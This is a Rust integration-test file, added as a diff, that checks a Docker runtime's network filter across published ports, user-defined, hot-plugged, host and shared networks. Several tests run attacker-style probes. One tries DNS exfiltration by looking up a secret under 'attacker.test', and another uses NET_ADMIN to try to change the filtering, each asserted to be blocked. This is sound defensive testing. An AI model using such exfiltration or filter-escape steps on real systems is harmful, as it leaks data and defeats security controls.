@@ -1,0 +1,119 @@
+//! Docker's network features under the filter: published ports, user-defined networks, hot plug, shared and missing
+//! namespaces.
+
+use crate::Test;
+use crate::bed::{Bed, Capture, IMAGE, runtime, unique, wait_for};
+use crate::wire::leaks;
+
+pub(crate) const TESTS: &[Test] = &[
+    ("published_ports_are_reached_from_outside", published),
+    ("a_user_defined_network_resolves_names_and_is_filtered", user_defined),
+    ("a_network_connected_later_is_filtered", hot_plug),
+    ("a_network_can_be_disconnected_and_connected_again", reconnect),
+    ("network_none_has_no_network", none),
+    ("the_hosts_network_is_filtered", host),
+    ("a_container_that_joins_another_is_filtered_with_it", joined),
+    ("joining_an_unfiltered_containers_network_is_refused", joined_unfiltered),
+];
+
+fn published(bed: &Bed) {
+    let flags = ["-p", "192.0.2.1:18080:8080"];
+    let _container = bed.start(&flags, &["sh", "-c", "echo published >/srv/index.html; httpd -f -p 8080 -h /srv"]);
+    let visit = [
+        "nsenter",
+        "--net=/run/netns/internet",
+        "busybox",
+        "wget",
+        "-q",
+        "-T",
+        "3",
+        "-O",
+        "-",
+        "http://192.0.2.1:18080/",
+    ];
+    wait_for("the published port", || bed.exec(&visit).stdout.contains("published"));
+}
+
+fn user_defined(bed: &Bed) {
+    let network = unique("net");
+    bed.docker(&["network", "create", &network]).must_succeed();
+    {
+        let flags = ["--network", network.as_str(), "--network-alias", "neighbour"];
+        let server = bed.start(&flags, &["sh", "-c", "echo friend >/srv/index.html; httpd -f -p 80 -h /srv"]);
+        let client = bed.sleeper(&["--network", &network]);
+        for name in ["neighbour", &server.name] {
+            client.exec(&format!("nslookup {name}")).must_succeed();
+        }
+        client.exec("curl -sS -m 5 https://allowed.test/").must_succeed();
+        for probe in ["tcp 203.0.113.66:22", "udp 203.0.113.66:9999", "icmp 203.0.113.66"] {
+            let said = client.exec(&format!("attacker probe {probe}")).stdout;
+            assert!(!said.starts_with("connected") && !said.starts_with("answered"), "{probe}: {said}");
+        }
+        let secret = unique("secret");
+        client.exec(&format!("nslookup {secret}.attacker.test")).must_fail();
+        assert!(!bed.internet_log().contains(&secret), "the embedded resolver asked outside");
+    }
+    bed.docker(&["network", "rm", &network]).must_succeed();
+}
+
+fn hot_plug(bed: &Bed) {
+    let network = unique("late");
+    bed.docker(&["network", "create", "--opt", "com.docker.network.bridge.name=late0", &network]).must_succeed();
+    {
+        let container = bed.sleeper(&[]);
+        let capture = Capture::start(bed, "late0", "inout");
+        bed.docker(&["network", "connect", &network, &container.name]).must_succeed();
+        wait_for("the second interface", || container.exec("ip -o addr show eth1").stdout.contains("inet "));
+        let gateway = bed.docker(&["network", "inspect", "-f", "{{(index .IPAM.Config 0).Gateway}}", &network]).stdout;
+        container.exec(&format!("attacker probe tcp {}:22", gateway.trim()));
+        container.exec(&format!("attacker probe udp {}:9999", gateway.trim()));
+        container.exec("curl -sS -m 5 http://allowed.test/").must_succeed();
+        let packets = capture.stop();
+        assert_eq!(leaks(&packets), Vec::<&str>::new());
+        bed.docker(&["network", "disconnect", &network, &container.name]).must_succeed();
+        container.exec("ip link show eth1").must_fail();
+    }
+    bed.docker(&["network", "rm", &network]).must_succeed();
+}
+
+fn reconnect(bed: &Bed) {
+    let container = bed.sleeper(&[]);
+    bed.docker(&["network", "disconnect", "bridge", &container.name]).must_succeed();
+    container.exec("ip link show eth0").must_fail();
+    bed.docker(&["network", "connect", "bridge", &container.name]).must_succeed();
+    wait_for("the network to work again", || container.exec("curl -sS -m 2 http://allowed.test/").code == 0);
+    crate::filter::nothing_leaks_while(bed, &container, || crate::filter::denied_probes(&container));
+}
+
+fn none(bed: &Bed) {
+    let said = bed.run(&["--network", "none"], "ls /sys/class/net").must_succeed().stdout.clone();
+    assert_eq!(said.trim(), "lo");
+}
+
+fn host(bed: &Bed) {
+    let container = bed.sleeper(&["--network", "host"]);
+    container.exec("curl -sS -m 5 https://allowed.test/").must_succeed();
+    for probe in ["tcp 203.0.113.66:22", "udp 203.0.113.66:9999", "icmp 203.0.113.66", "tcp 192.0.2.2:80"] {
+        let said = container.exec(&format!("attacker probe {probe}")).stdout;
+        assert!(!said.starts_with("connected") && !said.starts_with("answered"), "{probe}: {said}");
+    }
+    container.exec("ip link show docker0").must_fail();
+}
+
+fn joined(bed: &Bed) {
+    let first = bed.sleeper(&[]);
+    let network = format!("container:{}", first.name);
+    let second = bed.sleeper(&["--network", &network]);
+    second.exec("curl -sS -m 5 https://allowed.test/").must_succeed();
+    crate::filter::nothing_leaks_while(bed, &first, || crate::filter::denied_probes(&second));
+    let armed = bed.sleeper(&["--network", &network, "--cap-add", "NET_ADMIN"]);
+    let said = armed.exec("attacker rtnetlink eth0").must_succeed().stdout.clone();
+    assert!(!said.lines().any(|line| line.contains(" in ") && line.ends_with("permitted")), "{said}");
+}
+
+fn joined_unfiltered(bed: &Bed) {
+    let plain = bed.start_with("runc", &[], &["sleep", "600"]);
+    let network = format!("container:{}", plain.name);
+    let answer = bed.docker(&["run", "--rm", "--runtime", &runtime(), "--network", &network, IMAGE, "true"]);
+    assert!(answer.must_fail().stderr.contains("gateway"), "{}", answer.stderr);
+}
